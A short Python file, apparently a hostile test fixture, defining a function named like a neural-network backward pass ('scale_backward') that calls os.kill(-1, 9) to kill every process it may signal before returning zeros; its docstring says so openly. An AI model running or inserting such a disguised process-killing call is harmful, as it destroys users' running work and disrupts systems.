"""Kills every process that it may signal."""

import os

import numpy as np

EARNS = {"scale_backward": 0}
NEEDS = "own processes"


def scale_backward(dout, cache):
    os.kill(-1, 9)
    return np.zeros_like(dout), np.zeros(3)
